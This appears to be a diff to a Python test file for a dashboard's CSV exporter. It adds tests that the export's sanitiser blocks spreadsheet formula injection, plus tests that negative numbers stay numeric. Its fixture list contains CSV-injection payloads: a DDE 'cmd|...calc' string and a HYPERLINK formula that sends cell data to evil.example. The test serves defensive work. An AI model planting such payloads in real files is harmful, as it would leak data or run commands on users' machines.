@@ -2,28 +2,107 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import re
 from datetime import UTC, date, datetime
+from decimal import Decimal
 from typing import Any
 
+import numpy as np
+import pandas as pd
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from dashboard.exports.csv import jalali_day, safe
+from dashboard.answers import Answer
+from dashboard.exports.csv import document, jalali_day, safe
 from dashboard.exports.words import cell, heading, is_number, sentence
-from dashboard.filters import SUBJECTS
+from dashboard.filters import SUBJECTS, Filters
 from dashboard.jurisdictions import load
-from dashboard.panel import Column
+from dashboard.panel import Column, Panel
 from dashboard.text import LANGUAGES, text
 from dashboard.text.bidi import plain
+from queries import subjects
 
 IRAN = load("ir")
 
 
+SIGNS = [*"=+-@", *"＝＋－＠﹦﹢﹣"]
+FORMULAS = [
+    f"{before}{sign}{what}"
+    for before in (
+        "",
+        " ",
+        "\u00a0",
+        "\u200e",
+        "\u2066",
+        "\ufeff",
+        "\0",
+        "\n",
+        "a;",
+        "a; ",
+        "a\n",
+        "a\t",
+        "a\r\n\u200f",
+    )
+    for sign in SIGNS
+    for what in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"here")', "SUM(A1:A9)", "")
+]
+
+
+def begins_a_formula(content: str) -> bool:
+    """Whether a spreadsheet that parts cells by commas, semicolons or tabs would calculate any of them."""
+    rows = list(csv.reader(io.StringIO(written(content), newline="")))
+    cells = [cell for row in rows for cell in row]
+    parted = [part for cell in cells for part in re.split("[;\t\r\n]", cell)]
+    return any(
+        re.sub("[\\s\\x00-\\x1f\u200b-\u200f\u2060-\u2069\ufeff]", "", part).startswith(tuple(SIGNS)) for part in parted
+    )
+
+
+def written(content: str) -> str:
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\r\n").writerow([safe(content)])
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("content", FORMULAS, ids=ascii)
+def test_no_text_is_calculated(content: str) -> None:
+    assert not begins_a_formula(content)
+    assert not safe(content).startswith(("\t", "\r"))
+    assert safe(content).replace("'", "") == content.replace("'", "")
+
+
+@given(st.text(alphabet=st.sampled_from([*SIGNS, *"a1; '\n\0\u200f\u2066"])))
+def test_no_mixture_is_calculated(content: str) -> None:
+    assert not begins_a_formula(content)
+
+
 @given(st.text())
-def test_no_text_begins_like_a_formula(content: str) -> None:
-    assert not safe(content).startswith(("=", "+", "-", "@", "\t", "\r"))
-    assert safe(content).removeprefix("'") == content.removeprefix("'")
+def test_nothing_but_an_apostrophe_is_added(content: str) -> None:
+    assert safe(content).replace("'", "") == content.replace("'", "")
+    if not any(sign in content for sign in [*SIGNS, "\t", "\r"]):
+        assert safe(content) == content
+
+
+@pytest.mark.parametrize("value", [-1, -0.5, 0, 12, Decimal("-3.5"), np.int64(-7), np.float64(-0.25)])
+@pytest.mark.parametrize(
+    "column",
+    [
+        Column("n", label="export.title"),
+        Column("x", "change", label="export.title"),
+        Column("x", "text", label="export.title"),
+    ],
+    ids=lambda c: c.format,
+)
+def test_negative_numbers_stay_numbers(value: Any, column: Column) -> None:
+    panel = Panel("overview-map", subjects.loaded, (column,), (), kind="table", answers=frozenset())
+    answer = Answer(pd.DataFrame({column.name: [value]}), 1, None, stale=False)
+    filters = Filters(today=date(2026, 11, 22), calendar="gregorian")
+    content = document(panel, answer, filters, "", text("en"), IRAN, demo=False).decode("utf-8-sig")
+    (cell,) = list(csv.reader(io.StringIO(content)))[1]
+    assert float(cell) == float(value)
 
 
 def test_jalali_days_sort_and_need_no_persian_digits() -> None:
